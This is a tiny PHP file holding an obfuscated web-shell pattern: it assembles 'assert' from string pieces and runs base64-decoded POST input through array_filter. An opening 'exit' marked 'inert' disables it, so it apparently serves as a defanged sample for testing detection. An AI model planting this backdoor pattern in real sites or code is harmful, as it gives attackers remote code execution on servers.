<?php exit; /* inert */ 
$e = 'a' . 's' . 's' . 'ert';
array_filter(array(base64_decode($_POST['q'])), $e);
